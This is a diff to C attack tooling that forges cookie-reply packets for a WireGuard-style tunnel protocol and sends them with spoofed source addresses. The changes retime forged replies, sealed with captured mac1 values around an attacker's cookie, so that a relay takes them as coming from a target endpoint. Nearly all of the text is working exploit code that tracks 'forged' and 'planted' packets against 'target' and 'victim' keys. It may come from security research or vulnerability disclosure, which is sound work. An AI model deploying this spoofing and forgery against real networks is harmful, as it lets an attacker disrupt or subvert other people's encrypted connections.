@@ -1004,8 +1004,8 @@ static int spoofer_send(struct spoofer *s, const uint8_t *payload, size_t plen)
  * With @argv[8] and [9], TARGET's own endpoint E (helper-82, P1): once a second
  * socket C also sends TARGET an initiation without mac2, and at once a cookie
  * reply to it spoofed "from" E (so that the relay probes E and waits for E's
- * answer); and every probe of the relay's that reaches B is answered 300 ms
- * later (after E's own answer) by a reply spoofed "from" E, sealed with that
+ * answer); 30 ms later (after E's own answer) the newest probe of the relay's
+ * that reached B is answered by a reply spoofed "from" E, sealed with that
  * probe's mac1 around a cookie of the attacker's.
  */
 #define SLOT_QUEUE 64
@@ -1022,7 +1022,7 @@ static void slot_term(int sig)
 
 static int cookieslot(int argc, char **argv)
 {
-	struct { double due; uint32_t sender; uint8_t mac1[16]; bool spoof; } q[SLOT_QUEUE];
+	struct { double due; uint32_t sender; uint8_t mac1[16]; } q[SLOT_QUEUE];
 	uint32_t r_index = 0, sent_idx[SLOT_SENT] = { 0 }, idx;
 	long seconds = argc == 8 || argc == 10 ? strtol(argv[4], NULL, 10) : 0;
 	long routed = 0, with_mac2 = 0, copies = 0, forged = 0, cookies = 0;
@@ -1030,6 +1030,9 @@ static int cookieslot(int argc, char **argv)
 	struct hsock hs[2] = { { 0 }, { 0 } };	/* A, B */
 	double start, next_routed = 0, next_data = 0;
 	struct spoofer from_target;
+	uint32_t held_sender = 0;
+	uint8_t held_mac1[16];
+	double plant_answer = 0;
 	int c_fd = -1;
 	struct sockaddr_storage ss = { 0 };
 	uint8_t k[3][32], msg[1600];	/* bait, target, victim */
@@ -1079,7 +1082,16 @@ static int cookieslot(int argc, char **argv)
 				cookie_forge(reply, idx, msg + 116, k[1]);
 				if (!spoofer_send(&from_target, reply, sizeof(reply)))
 					planted++;
+				/* Right after E's own answer to that probe. */
+				plant_answer = t + 0.03;
 			}
+		}
+		if (plant_answer && t >= plant_answer && held_sender) {
+			cookie_forge(msg, held_sender, held_mac1, k[1]);
+			if (!spoofer_send(&from_target, msg, 64))
+				planted++;
+			held_sender = 0;
+			plant_answer = 0;
 		}
 		if (st.phase == 4 && t >= next_data) {
 			make_data(msg, r_index, counter);
@@ -1094,12 +1106,8 @@ static int cookieslot(int argc, char **argv)
 				continue;
 			}
 			cookie_forge(msg, q[j].sender, q[j].mac1, k[1]);
-			if (q[j].spoof) {
-				if (!spoofer_send(&from_target, msg, 64))
-					planted++;
-			} else if (send(hs[1].fd, msg, 64, 0) >= 0) {
+			if (send(hs[1].fd, msg, 64, 0) >= 0)
 				forged++;
-			}
 			q[j] = q[--q_len];
 		}
 		if (poll(pfd, 2, 5) <= 0)
@@ -1127,17 +1135,14 @@ static int cookieslot(int argc, char **argv)
 					for (int a = 0; a < 2; a++) {
 						q[q_len].due = t + (a ? 0.3 : 0.03);
 						q[q_len].sender = sender;
-						q[q_len].spoof = false;
 						memcpy(q[q_len++].mac1, msg + 116, 16);
 					}
 				} else if (st.phase == 4 && c_fd >= 0 && !ours &&
-					   initiation_for(msg, k[1]) && q_len < SLOT_QUEUE) {
-					/* The relay's probe of B: answered "from" E. */
+					   initiation_for(msg, k[1])) {
+					/* The relay's probe of B: held, answered "from" E. */
 					probes++;
-					q[q_len].due = t + 0.3;
-					q[q_len].sender = sender;
-					q[q_len].spoof = true;
-					memcpy(q[q_len++].mac1, msg + 116, 16);
+					held_sender = sender;
+					memcpy(held_mac1, msg + 116, 16);
 				}
 			} else if (n == 64 && msg[0] == 3 && hs[i].last_pub &&
 				   get_le32(msg + 4) == hs[i].last_sender) {
